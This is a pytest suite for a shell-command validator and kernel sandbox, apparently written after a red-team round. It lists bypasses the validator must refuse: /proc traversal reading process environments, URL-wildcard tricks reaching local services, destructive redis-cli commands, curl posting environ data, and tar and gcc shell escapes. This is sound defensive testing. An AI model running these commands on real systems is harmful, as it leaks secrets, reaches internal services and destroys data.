"""The fifth red-team round's classes (against main at e598eba, 2026-12-04), each refused by its class.

The hits: a path through ``/proc/thread-self/..`` read the worker's environment with the
sandbox on (the rule normalised ``..`` lexically; the kernel follows the link first); ``*``
in a URL pattern matched ``#``, ``@`` and ``:`` and so reached another host; bare
``redis-cli`` ran ``FLUSHALL``; and, with the sandbox off, programs the rules let through
wrote files. Validation never runs anything, so the programs are stand-ins on a temporary
search path; a real ``run_command`` proves the effects that need one, in temporary
directories. Beside each class are the ordinary uses that must still pass.
"""

from __future__ import annotations

import contextlib
import http.server
import os
import shlex
import shutil
import subprocess
import sys
import threading
import uuid
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
import redis

from celery_jobs_ext.errors import ShellCommandFailed, ShellCommandNotAllowed
from celery_jobs_ext.shell import validate_command
from celery_jobs_ext.shell.runner import run_command
from celery_jobs_ext.shell.sandbox import companion_programs, kernel_abi, program_executables
from tests.shell.helpers import bare, is_refused, make_programs

SYSTEM_PATH = "/usr/local/bin:/usr/bin:/bin"
PROGRAMS = [
    "grep", "sort", "cat", "ls", "sed", "head", "curl", "wget", "redis-cli", "python3", "perl",
    "ruby", "node", "tic", "pydoc3", "pydoc", "zipnote", "debconf-set-selections", "dpkg",
    "update-alternatives", "kubectl", "man", "sqlite3", "mysqldump", "mysql", "git", "docker",
    "tar", "psql", "pg_dump", "scp", "ssh-copy-id", "debugpy", "gpgtar",
]  # fmt: skip


@pytest.fixture(scope="module")
def search_path(tmp_path_factory: pytest.TempPathFactory) -> str:
    return str(make_programs(tmp_path_factory.mktemp("bin"), PROGRAMS))


# --- 1. paths through /proc and /dev links followed before '..' ----------------------------------


@pytest.mark.parametrize(
    "command",
    [
        # the round's hits: the kernel follows thread-self (and self, dev/fd) before the '..'
        "grep -a -o NAME=value /proc/thread-self/../../../1/environ",
        "sort -z /proc/thread-self/../../../1/environ",
        "grep -a -c . /proc/thread-self/../../environ",
        "grep -a -c . /proc/thread-self/../../../self/environ",
        "cat /dev/fd/../environ",
        # the class: any '..' with a proc or dev component, in any piece of an argument
        "cat /proc/self/../self/environ",
        "cat /proc/self/task/../environ",
        "cat /dev/../proc/self/environ",
        "cat /var/run/../proc/1/environ",
        "cat proc/thread-self/../../environ",
        "grep -f /proc/thread-self/../../environ x",
        "sed -n p --file=/proc/thread-self/../../environ",
        "curl -d @/dev/fd/../environ https://example.com/",
        "head -c 100 /dev/stdin/../environ",
    ],
)
def test_proc_and_dev_paths_with_dot_dot_are_refused(command: str, search_path: str) -> None:
    assert is_refused(command, bare(command), search_path)


def test_a_link_on_disk_into_proc_is_judged_where_it_leads(tmp_path: Path, search_path: str) -> None:
    (tmp_path / "self").symlink_to("/proc/self")
    (tmp_path / "fds").symlink_to("/dev/fd")
    assert is_refused(f"cat {tmp_path}/self/environ", ["cat"], search_path)
    assert is_refused(f"grep -a . {tmp_path}/fds/0", ["grep"], search_path)
    assert is_refused(f"sort --files0-from={tmp_path}/self/cmdline", ["sort"], search_path)


@pytest.mark.parametrize(
    "command",
    [
        "cat /proc/loadavg",
        "cat /proc/cpuinfo",
        "cat /etc/mtab",  # a link to /proc/self/mounts, the mount table
        "ls /dev",
        "ls -l /dev/null",
        "cat /tmp/../etc/hostname",
        "grep -r x ../src",
        "ls ../..",
        "cat ../dev-notes.txt",
        "grep -c processed ../proc-logs/today.log",
    ],
)
def test_ordinary_paths_with_dot_dot_or_links_still_pass(command: str, search_path: str) -> None:
    assert not is_refused(command, bare(command), search_path)


def test_judging_links_does_not_depend_on_the_validating_process_s_descriptors(search_path: str) -> None:
    """/dev/stdout is /proc/self/fd/1: where the worker's own fd 1 points (a pipe, a file)
    must not decide whether ``sort -o /dev/stdout`` passes, so links under /proc are not followed."""
    script = (
        "from celery_jobs_ext.shell import validate_command\n"
        "validate_command('sort -o /dev/stdout x', ['sort'], denied_arguments={},\n"
        f"                 search_path={search_path!r})\n"
        "print('passed')\n"
    )
    for stdout in (subprocess.PIPE, subprocess.DEVNULL):
        result = subprocess.run(
            [sys.executable, "-c", script], stdout=stdout, stderr=subprocess.PIPE, check=False
        )
        assert result.returncode == 0, result.stderr.decode()


def validated_run(command: str, allowed: list[str], cwd: Path | None = None) -> dict[str, object] | None:
    """Validate and, if allowed, really run the command (sandbox "auto"); None when refused."""
    try:
        validate_command(command, allowed, denied_arguments={}, search_path=SYSTEM_PATH)
    except ShellCommandNotAllowed:
        return None
    return run_command(shlex.split(command), env={}, search_path=SYSTEM_PATH, cwd=cwd, timeout=60)


def test_the_worker_environment_is_not_read_through_thread_self() -> None:
    """The round's hit, for real: ``HOME=`` of the worker's environment does not come back."""
    command = f"grep -a -o HOME= /proc/thread-self/../../../{os.getpid()}/environ"
    result = validated_run(command, ["grep"])
    assert result is None or "HOME=" not in str(result["stdout"])


# --- 2. wildcards in URL patterns stay inside the URL part they are written in ---------------------


@pytest.mark.parametrize(
    ("command", "pattern"),
    [
        # the round's hits: '*' in the host matched ':', '#', '@' and reached 127.0.0.1
        ("curl http://127.0.0.1:6379#.example.com/x", "curl http://*.example.com/*"),
        ("curl https://127.0.0.1#.example.com/x", "curl https://*.example.com/*"),
        ("curl http://user@127.0.0.1:9#.example.com/x", "curl http://*.example.com/*"),
        ("curl -fsS https://example.com@127.0.0.1:6379", "curl -fsS https://example.com*"),
        # the class: the host part matches host characters only, in every spelling
        ("curl -fsS https://example.com:6379", "curl -fsS https://example.com*"),
        ("curl 'http://x.example.com?@127.0.0.1/'", "curl http://*.example.com/*"),
        ("curl 'http://127.0.0.1\\.example.com/'", "curl http://*.example.com/*"),
        ("curl 'http://127.0.0.1%23.example.com/'", "curl http://*.example.com/*"),
        ("wget -q http://127.0.0.1:6379#.example.org/f", "wget -q http://*.example.org/*"),
        ("curl --url=http://127.0.0.1#.example.com/x", "curl --url=http://*.example.com/*"),
        ("git clone https://127.0.0.1#.github.com/a/b", "git clone https://*.github.com/*/*"),
        # and the path: no '#', '@' or '\\' unless the pattern spells them
        ("curl http://a.example.com/x@127.0.0.1", "curl http://*.example.com/*"),
        ("curl http://a.example.com/x#frag", "curl http://*.example.com/*"),
        ("curl 'http://a.example.com/x\\@127.0.0.1'", "curl http://*.example.com/*"),
        ("curl 'https://example.com/search?q=a@b'", "curl https://example.com/search?q=*"),
    ],
)
def test_url_wildcards_do_not_cross_into_another_url_part(
    command: str, pattern: str, search_path: str
) -> None:
    assert is_refused(command, [pattern], search_path)


@pytest.mark.parametrize(
    ("command", "pattern"),
    [
        ("curl http://a.example.com/x", "curl http://*.example.com/*"),
        ("curl -fsS https://example.com", "curl -fsS https://example.com*"),
        ("curl -fsS https://example.com:8443/health", "curl -fsS https://example.com:*/health"),
        (
            "curl -fsS 'https://api.example.com/search?q=celery'",
            "curl -fsS https://api.example.com/search?q=*",
        ),
        (
            "curl -fsS -o /srv/out/page https://example.com/page",
            "curl -fsS -o /srv/out/* https://example.com/*",
        ),
        ("curl -fsS https://user@example.com/status", "curl -fsS https://user@example.com/*"),
        ("curl -fsS https://example.com/docs#install", "curl -fsS https://example.com/docs#*"),
        ("wget -q https://dl.example.org/files/pkg-1.0.tar.gz", "wget -q https://*.example.org/files/*"),
        (
            "git clone https://github.com/celery/celery /srv/repos/celery",
            "git clone https://github.com/*/* /srv/repos/*",
        ),
    ],
)
def test_ordinary_url_patterns_still_match(command: str, pattern: str, search_path: str) -> None:
    assert not is_refused(command, [pattern], search_path)


@pytest.fixture
def local_server() -> Iterator[tuple[int, list[str]]]:
    """An HTTP server on 127.0.0.1 recording the paths it was asked for."""
    requests: list[str] = []

    class Recorder(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            requests.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *arguments: object) -> None:
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Recorder)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server.server_address[1], requests
    server.shutdown()
    server.server_close()


def test_a_host_wildcard_no_longer_reaches_a_local_service(local_server: tuple[int, list[str]]) -> None:
    """The round's hit, for real: ``#`` ended the host, and curl asked 127.0.0.1."""
    port, requests = local_server
    if shutil.which("curl", path=SYSTEM_PATH) is None:
        pytest.skip("curl is not installed")
    command = f"curl -sS -m 10 http://127.0.0.1:{port}#.example.com/x"
    result = validated_run(command, ["curl -sS -m 10 http://*.example.com/*"])
    assert result is None and requests == []


# --- 3. bare redis-cli runs read-only commands only ------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        # the round's list: accepted by the old deny list
        "redis-cli FLUSHALL",
        "redis-cli -n 0 FLUSHDB",
        "redis-cli SWAPDB 0 1",
        "redis-cli CLIENT KILL TYPE normal",
        "redis-cli RESTORE k 0 x",
        "redis-cli EVAL 'return 1' 0",
        "redis-cli EVAL_RO 'return 1' 0",
        "redis-cli SCRIPT LOAD x",
        "redis-cli FCALL f 0",
        "redis-cli -x SET k",
        "redis-cli LATENCY RESET",
        "redis-cli SENTINEL masters",
        "redis-cli OBJECT FREQ k",
        # the class: anything that changes data, runs code or acts on other clients
        "redis-cli -h db -n 1 DEL k",
        "redis-cli set k v",
        "redis-cli HINCRBY k f 1",
        "redis-cli EXPIRE k 1",
        "redis-cli GETDEL k",
        "redis-cli SORT k STORE dst",
        "redis-cli CLIENT PAUSE 100000",
        "redis-cli CLIENT NO-EVICT on",
        "redis-cli MEMORY PURGE",
        "redis-cli SLOWLOG RESET",
        "redis-cli PUBLISH chan msg",
        "redis-cli -r 1000 LPUSH k v",
        "redis-cli -n 1 CONFIG SET dir /tmp/x",
        "redis-cli CLIENT",
    ],
)
def test_bare_redis_cli_refuses_commands_that_are_not_read_only(command: str, search_path: str) -> None:
    assert is_refused(command, ["redis-cli"], search_path)


@pytest.mark.parametrize(
    "command",
    [
        "redis-cli -h db -n 1 GET k",
        "redis-cli --raw MGET a b",
        "redis-cli HGETALL jobs:counts",
        "redis-cli LRANGE queue 0 -1",
        "redis-cli ZRANGEBYSCORE z 0 10",
        "redis-cli XINFO STREAM s",
        "redis-cli INFO memory",
        "redis-cli ping",
        "redis-cli DBSIZE",
        "redis-cli MEMORY USAGE k",
        "redis-cli client list",
        "redis-cli SLOWLOG GET 10",
        "redis-cli LATENCY DOCTOR",
        "redis-cli PUBSUB CHANNELS",
        "redis-cli --scan --pattern 'user:*'",
        "redis-cli --stat",
        "redis-cli --bigkeys",
        "redis-cli --latency",
        "redis-cli --memkeys",
        "redis-cli --version",
    ],
)
def test_bare_redis_cli_still_runs_read_only_commands(command: str, search_path: str) -> None:
    assert not is_refused(command, ["redis-cli"], search_path)


def test_a_pattern_that_spells_a_writing_command_allows_exactly_that(search_path: str) -> None:
    pattern = "redis-cli -h db -n 3 HINCRBY jobs:counts * 1"
    assert not is_refused("redis-cli -h db -n 3 HINCRBY jobs:counts task-1 1", [pattern], search_path)
    assert is_refused("redis-cli -h db -n 3 HINCRBY other task-1 1", [pattern], search_path)
    assert is_refused("redis-cli -n 1 FLUSHDB", ["redis-cli -n 1 *"], search_path)
    assert not is_refused("redis-cli -n 1 GET k", ["redis-cli -n 1 ..."], search_path)
    assert is_refused("redis-cli -n 1 FLUSHALL", ["redis-cli -n 1 ..."], search_path)


def test_redis_cli_writes_only_what_a_pattern_spells_for_real(redis_url: str) -> None:
    """Against the real server: a pinned HINCRBY counts, a bare SET or FLUSHDB never runs."""
    installed("redis-cli")
    url = urlsplit(redis_url)
    if url.password:
        pytest.skip("the test Redis needs a password")
    key = f"jobs-test:round5:{uuid.uuid4().hex}"
    server = f"-h {url.hostname} -p {url.port or 6379} -n {url.path.strip('/') or '0'}"
    client = redis.Redis.from_url(redis_url)
    try:
        pattern = f"redis-cli {server} HINCRBY {key} * 1"
        assert validated_run(f"redis-cli {server} HINCRBY {key} task-1 1", [pattern]) is not None
        assert client.hget(key, "task-1") == b"1"
        assert validated_run(f"redis-cli {server} SET {key}:other x", ["redis-cli", pattern]) is None
        assert validated_run(f"redis-cli {server} FLUSHDB", ["redis-cli", pattern]) is None
        assert client.exists(f"{key}:other") == 0 and client.hget(key, "task-1") == b"1"
        result = validated_run(f"redis-cli {server} HGET {key} task-1", ["redis-cli"])
        assert result is not None and str(result["stdout"]).strip() == "1"
    finally:
        client.delete(key, f"{key}:other")
        client.close()


# --- 4. writers the sandbox stopped but the rules let through ------------------------------------


@pytest.fixture(scope="module")
def virtualenv(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A virtualenv's layout (``pyvenv.cfg`` marks it): bin/pip and a package of its own."""
    root = tmp_path_factory.mktemp("venv")
    (root / "pyvenv.cfg").write_text("home = /usr/bin\n")
    make_programs(root / "bin", ["pip", "pip3", "debugpy"], body="#!/usr/bin/python3\n")
    (root / "lib" / "tool").mkdir(parents=True)
    (root / "lib" / "tool" / "main.py").write_text("print('tool')\n")
    return root


def test_interpreters_refuse_scripts_of_a_virtualenv(virtualenv: Path, search_path: str) -> None:
    # the round's hits: pip download -d and pip3 config --global set (it wrote /etc/pip.conf)
    assert is_refused(f"python3 {virtualenv}/bin/pip download -d out --no-index x", ["python3"], search_path)
    assert is_refused(f"python3 {virtualenv}/bin/pip3 config --global set a.b c", ["python3"], search_path)
    assert is_refused(f"python3 {virtualenv}/bin/debugpy --listen 127.0.0.1:5998 x", ["python3"], search_path)
    # the class: anything inside a virtualenv is installed software
    assert is_refused(f"python3 {virtualenv}/lib/tool/main.py", ["python3"], search_path)


@pytest.mark.parametrize(
    "command",
    [
        "python3 /srv/venv/bin/pip3 config --global set global.index-url x",
        "python3 /home/deploy/.local/bin/ansible-playbook x.yml",
        "python3 bin/pip install x",
        "python3 ./env/bin/pip install x",
        "python3 /opt2/tools/sbin/tool",
        "python3 C:/venv/Scripts/pip.exe install x",
        "perl /home/u/perl5x/bin/cpanm Foo",
        "ruby /srv/app/bin/rails runner x",
        "node /srv/app/bin/www",
    ],
)
def test_interpreters_refuse_scripts_of_any_bin_directory(command: str, search_path: str) -> None:
    assert is_refused(command, bare(command), search_path)


@pytest.mark.parametrize(
    "command",
    [
        "python3 script.py",
        "python3 /srv/app/manage.py check",
        "python3 tools/build.py",
        "python3 /srv/app/scripts/report.py",
        "node /srv/app/server.js",
        "perl tools/fix.pl",
    ],
)
def test_interpreters_still_run_a_project_s_own_scripts(command: str, search_path: str) -> None:
    assert not is_refused(command, bare(command), search_path)


@pytest.mark.parametrize(
    "command",
    [
        # the round's hits (with "*" or bare-listed)
        "tic -o /tmp/x/terminfo f.src",
        "pydoc3 -w os",
        "pydoc -w os",
        "zipnote -w a.zip",
        "debconf-set-selections /tmp/x/sel",
        "dpkg -i /tmp/x/p.deb",
        "dpkg --install /tmp/x/p.deb",
        "update-alternatives --install /usr/bin/x x /tmp/x/y 1",
        "man -l /tmp/x/page.1",
        "kubectl config set-cluster x --kubeconfig=/tmp/x/k",
        "kubectl config set-cluster x --server=https://127.0.0.1",
        # the class: every form that writes, by allow list of the forms that show
        "tic f.src",
        "tic -x f.src",
        "pydoc3 -p 8000",
        "pydoc3 -b",
        "zipnote -b /tmp/x a.zip",
        "dpkg -r bash",
        "dpkg --purge bash",
        "dpkg --configure -a",
        "dpkg --set-selections",
        "dpkg --unpack /tmp/x/p.deb",
        "dpkg-reconfigure tzdata",
        "update-alternatives --set editor /usr/bin/vim",
        "update-alternatives --auto editor",
        "update-alternatives --remove-all editor",
        "man --local-file=/tmp/x/page.1",
        "man -al ls",
        "kubectl config set-context x",
        "kubectl config use-context x",
        "kubectl config set-credentials x --token=y",
    ],
)
def test_writing_forms_of_installed_software_tools_are_refused(command: str, search_path: str) -> None:
    assert is_refused(command, bare(command), search_path)


@pytest.mark.parametrize(
    "command",
    [
        "tic -c f.src",
        "tic -x -C f.src",
        "tic -V",
        "pydoc3 os",
        "pydoc3 -k json",
        "zipnote a.zip",
        "dpkg -l",
        "dpkg -L bash",
        "dpkg -S /bin/ls",
        "dpkg --status bash",
        "dpkg --compare-versions 1.0 lt 2.0",
        "dpkg --print-architecture",
        "dpkg --version",
        "update-alternatives --display editor",
        "update-alternatives --list editor",
        "update-alternatives --get-selections",
        "man ls",
        "man 5 crontab",
        "kubectl config view",
        "kubectl config current-context",
    ],
)
def test_read_only_forms_of_installed_software_tools_pass(command: str, search_path: str) -> None:
    assert not is_refused(command, bare(command), search_path)


def test_bare_sqlite3_opens_existing_databases_only(tmp_path: Path, search_path: str) -> None:
    existing = tmp_path / "app.db"
    existing.write_bytes(b"")
    # the round's hits: a new database file, a URI with mode=rwc
    assert is_refused(f"sqlite3 {tmp_path}/c59.db .dump", ["sqlite3"], search_path)
    assert is_refused(f"sqlite3 'file:{tmp_path}/c60?mode=rwc' 'create table t(a)'", ["sqlite3"], search_path)
    # the class: any URI not opened read-only, -append onto another file
    assert is_refused(f"sqlite3 'file:{existing}' .tables", ["sqlite3"], search_path)
    assert is_refused(f"sqlite3 'file:{existing}?mode=ro&m%6Fde=rwc' .tables", ["sqlite3"], search_path)
    assert is_refused(f"sqlite3 'file:{existing}?mode=rw' 'create table t(a)'", ["sqlite3"], search_path)
    assert is_refused(f"sqlite3 -append {existing} 'create table t(a)'", ["sqlite3"], search_path)
    assert is_refused(f"sqlite3 {tmp_path}/new.db .tables", ["sqlite3 * .tables"], search_path)
    # ordinary uses
    assert not is_refused(f"sqlite3 {existing} 'select 1'", ["sqlite3"], search_path)
    assert not is_refused(f"sqlite3 -readonly -header {existing} .tables", ["sqlite3"], search_path)
    assert not is_refused(f"sqlite3 'file:{existing}?mode=ro' .tables", ["sqlite3"], search_path)
    assert not is_refused(f"sqlite3 'file:{existing}?immutable=1' .tables", ["sqlite3"], search_path)
    assert not is_refused("sqlite3 :memory: 'select 1'", ["sqlite3"], search_path)
    assert not is_refused(
        f"sqlite3 {tmp_path}/new.db 'create table t(a)'", [f"sqlite3 {tmp_path}/new.db *"], search_path
    )


def unsandboxed_run(command: str, allowed: list[str], cwd: Path) -> dict[str, object] | None:
    """Validate and, if allowed, run with the sandbox off (what "auto" does without Landlock)."""
    try:
        validate_command(command, allowed, denied_arguments={}, search_path=SYSTEM_PATH)
    except ShellCommandNotAllowed:
        return None
    argv = shlex.split(command)
    return run_command(argv, env={}, search_path=SYSTEM_PATH, cwd=str(cwd), timeout=60, sandbox="off")


@pytest.mark.parametrize(
    ("command", "allowed", "program"),
    [
        ("pydoc3 -w json", ["*"], "pydoc3"),
        ("sqlite3 {cwd}/c59.db .dump", ["sqlite3"], "sqlite3"),
        ("tic -o {cwd}/terminfo {cwd}/t.src", ["*"], "tic"),
    ],
)
def test_without_the_sandbox_the_rules_leave_the_directory_unchanged(
    command: str, allowed: list[str], program: str, tmp_path: Path
) -> None:
    """The round's hits, for real and unsandboxed: nothing new appears in the directory."""
    if shutil.which(program, path=SYSTEM_PATH) is None:
        pytest.skip(f"{program} is not installed")
    (tmp_path / "t.src").write_text("x|round5 test,\n\tcols#80,\n")
    before = sorted(path.name for path in tmp_path.iterdir())
    with contextlib.suppress(ShellCommandFailed):  # it may fail; only what it left counts
        unsandboxed_run(command.format(cwd=tmp_path), allowed, tmp_path)
    assert sorted(path.name for path in tmp_path.iterdir()) == before


# --- 5. the sandbox: a wrapper's real program runs, and a denial is never a silent success --------

needs_landlock = pytest.mark.skipif(kernel_abi() < 1, reason="this kernel has no Landlock")


def sandboxed(argv: list[str], **options: object) -> dict[str, object]:
    options.setdefault("env", {})
    options.setdefault("search_path", SYSTEM_PATH)
    options.setdefault("timeout", 60)
    return run_command(argv, sandbox="required", **options)  # type: ignore[arg-type]


def installed(name: str) -> str:
    path = shutil.which(name, path=SYSTEM_PATH)
    if path is None:
        pytest.skip(f"{name} is not installed")
    return path


@needs_landlock
@pytest.mark.parametrize("name", ["psql", "pg_dump"])
def test_debian_postgresql_wrappers_run_their_real_program(name: str) -> None:
    """pg_wrapper execs /usr/lib/postgresql/<version>/bin/<name>: it printed nothing and exited 0."""
    program = installed(name)
    if os.path.basename(os.path.realpath(program)) != "pg_wrapper":
        pytest.skip(f"{name} is not Debian's pg_wrapper here")
    result = sandboxed([program, "--version"])
    assert str(result["stdout"]).startswith(f"{name} (PostgreSQL)")
    assert "Permission denied" not in str(result["stderr"])


@needs_landlock
@pytest.mark.parametrize(("option", "compressor"), [("-z", "gzip"), ("-j", "bzip2"), ("-J", "xz")])
def test_tar_runs_its_compressors_and_writes_only_the_writable_paths(
    option: str, compressor: str, tmp_path: Path
) -> None:
    installed(compressor)
    (tmp_path / "in.txt").write_text("round 5\n")
    (tmp_path / "out").mkdir()
    tar = installed("tar")
    sandboxed(
        [tar, f"-c{option[1]}f", "out/a.tar", "in.txt"],
        cwd=str(tmp_path),
        writable_paths=[str(tmp_path / "out")],
    )
    listed = sandboxed([tar, f"-t{option[1]}f", "out/a.tar"], cwd=str(tmp_path))
    assert listed["stdout"] == "in.txt\n"
    with pytest.raises(ShellCommandFailed, match="Permission denied"):
        sandboxed([tar, f"-c{option[1]}f", "a.tar", "in.txt"], cwd=str(tmp_path))
    assert not (tmp_path / "a.tar").exists()


def test_only_elf_companions_are_allowed_never_a_script(tmp_path: Path) -> None:
    """A compressor that is a script would make its interpreter executable: never added."""
    make_programs(tmp_path / "bin", ["gzip"], body="#!/bin/sh\nexec /bin/sh\n")
    tar = installed("tar")
    assert companion_programs(tar, str(tmp_path / "bin")) == []
    assert "/bin/sh" not in program_executables(tar, str(tmp_path / "bin"))
    names = {os.path.basename(path) for path in companion_programs(tar, SYSTEM_PATH)}
    assert names <= {"gzip", "bzip2", "xz", "zstd", "lzip", "lzop", "lz4", "sh"}
    assert companion_programs(installed("grep"), SYSTEM_PATH) == []


@needs_landlock
def test_the_shell_tar_starts_its_compressor_through_executes_nothing_else(tmp_path: Path) -> None:
    """GNU tar runs "/bin/sh -c gzip"; that shell is in the same sandbox (run unvalidated here:
    --to-command is refused by the rules)."""
    tar = installed("tar")
    installed("gzip")
    (tmp_path / "in.txt").write_text("x\n")
    (tmp_path / "out").mkdir()
    sandboxed([tar, "-czf", "out/a.tgz", "in.txt"], cwd=str(tmp_path), writable_paths=[str(tmp_path / "out")])
    marker = tmp_path / "out" / "ran"
    with pytest.raises(ShellCommandFailed, match="Permission denied"):
        sandboxed(
            [tar, "-xzf", "out/a.tgz", f"--to-command=/usr/bin/touch {marker}"],
            cwd=str(tmp_path),
            writable_paths=[str(tmp_path / "out")],
        )
    assert not marker.exists()


@needs_landlock
def test_a_denied_exec_the_program_ignores_is_noted_in_a_successful_result(tmp_path: Path) -> None:
    """A wrapper that ignores its failed exec and exits 0 (pg_wrapper did) says so in stderr."""
    wrapper = tmp_path / "wrapper"
    wrapper.write_text("#!/bin/sh\n/bin/ls /\nexit 0\n")
    wrapper.chmod(0o755)
    result = sandboxed([str(wrapper)])
    assert result["returncode"] == 0
    assert "Permission denied" in str(result["stderr"])
    assert "[jobs.shell: the command ran in the kernel sandbox" in str(result["stderr"])


# --- 6. the round's false refusals by the rules ---------------------------------------------------


@pytest.mark.parametrize(
    ("command", "allowed"),
    [
        ("mysqldump -uroot -h db shop", ["mysqldump"]),
        ("mysqldump -hdb -uroot -psecret shop", ["mysqldump"]),
        ("git clone -q /srv/src/app clone1", ["git"]),
        ("git clone /srv/src/app", ["git"]),
        ("git clone --depth 1 -b main https://github.com/celery/celery", ["git"]),
        ("curl -s -o /dev/null -w %{http_code} https://example.com/", ["curl"]),
        ("curl -sS -w %{time_total}\\n https://example.com/", ["curl"]),
        ("git log -1 HEAD@{1}", ["git"]),
        ("docker --version", ["docker"]),
        ("docker -v", ["docker"]),
        ("python3 app.py -c config.yml", ["python3"]),
        ("python3 -u app.py -m fast --output=-", ["python3"]),
        ("python3 -W ignore tools/report.py -c x -X y", ["python3"]),
    ],
)
def test_the_round_s_false_refusals_now_pass(command: str, allowed: list[str], search_path: str) -> None:
    assert not is_refused(command, allowed, search_path)


@pytest.mark.parametrize(
    ("command", "allowed"),
    [
        # the same classes, where the refusal is right
        ("mysqldump -uroot -r /tmp/x/out.sql shop", ["mysqldump"]),
        ("mysqldump -Bvr /tmp/x/out.sql shop", ["mysqldump"]),
        ("mysqldump -uroot -T/tmp/x shop", ["mysqldump"]),
        ("git clone -q /srv/src/app /tmp/x/clone", ["git"]),
        ("git clone --shared /srv/src/app /tmp/x/clone", ["git"]),
        ("git clone -b main /srv/src/app ../clone", ["git"]),
        ("git clone -- /srv/src/app /tmp/x/clone", ["git"]),
        ("git init /tmp/x/repo", ["git"]),
        ("curl -w %{a,b} https://example.com/", ["curl"]),
        ("curl -w x{1..3} https://example.com/", ["curl"]),
        ("curl -w {a} https://example.com/", ["curl"]),
        ("curl -w x{a}{b,c} https://example.com/", ["curl"]),
        ("curl -w x}y https://example.com/", ["curl"]),
        ("docker --config /tmp/x ps", ["docker"]),
        ("docker --version run alpine", ["docker"]),
        ("python3 -c 'print(1)'", ["python3"]),
        ("python3 -u -c x", ["python3"]),
        ("python3 -Wignore -c x", ["python3"]),
        ("python3 -m http.server", ["python3"]),
        ("python3 -X pycache_prefix=/tmp/x app.py", ["python3"]),
    ],
)
def test_the_same_classes_still_refuse_what_they_should(
    command: str, allowed: list[str], search_path: str
) -> None:
    assert is_refused(command, allowed, search_path)


# --- found while fixing: the other writers the sandbox alone stopped ------------------------------


@pytest.mark.parametrize(
    ("command", "allowed"),
    [
        ("scp a.txt b.txt", ["scp"]),
        ("scp /etc/hostname /tmp/x/copy", ["scp"]),
        ("scp host:a .", ["scp"]),
        ("scp -P 22 -i key host:a b", ["scp"]),
        ("scp -- a b", ["scp"]),
        ("ssh-copy-id user@host", ["ssh-copy-id"]),
        ("ssh-copy-id -i k.pub host", ["ssh-copy-id"]),
        ("debugpy --listen 127.0.0.1:5998 -c 'print(1)'", ["debugpy"]),
        ("debugpy -m http.server", ["debugpy"]),
        ("debugpy --log-to /tmp/x app.py", ["debugpy"]),
        ("debugpy /usr/bin/pip3 install x", ["debugpy"]),
        ("gpgtar -d a.tar.gpg", ["gpgtar"]),
        ("gpgtar -c -o /tmp/x/a.tar.gpg dir", ["gpgtar"]),
    ],
)
def test_writers_the_sandbox_alone_stopped_are_refused(
    command: str, allowed: list[str], search_path: str
) -> None:
    assert is_refused(command, allowed, search_path)


@pytest.mark.parametrize(
    ("command", "allowed"),
    [
        ("scp a.txt host:b", ["scp"]),
        ("scp -P 2222 -r dir user@host:/srv/in/", ["scp"]),
        ("scp backup:/x/a.tgz /srv/in/a.tgz", ["scp backup:/x/* /srv/in/*"]),
        ("debugpy app.py", ["debugpy"]),
        ("gpgtar --list-archive a.tar.gpg", ["gpgtar"]),
    ],
)
def test_their_ordinary_uses_pass(command: str, allowed: list[str], search_path: str) -> None:
    assert not is_refused(command, allowed, search_path)


@needs_landlock
def test_gcc_runs_its_compiler_proper_and_still_cannot_run_a_shell(tmp_path: Path) -> None:
    """cc1 (and as) may execute for gcc: -fsyntax-only failed without; -wrapper sh still fails."""
    gcc = installed("gcc")
    (tmp_path / "a.c").write_text("int main(void) { return 0; }\n")
    assert sandboxed([gcc, "-fsyntax-only", "a.c"], cwd=str(tmp_path))["returncode"] == 0
    assert sandboxed([gcc, "-E", "a.c"], cwd=str(tmp_path))["stdout"]
    marker = tmp_path / "out" / "ran"
    (tmp_path / "out").mkdir()
    with pytest.raises(ShellCommandFailed):
        sandboxed(
            [gcc, "-wrapper", f"/bin/sh,-c,touch {marker}", "-fsyntax-only", "a.c"],
            cwd=str(tmp_path),
            writable_paths=[str(tmp_path / "out")],
        )
    assert not marker.exists()
    with pytest.raises(ShellCommandFailed, match="Permission denied"):
        sandboxed([gcc, "-c", "a.c"], cwd=str(tmp_path))  # as may run, but not write here
    assert not (tmp_path / "a.o").exists()
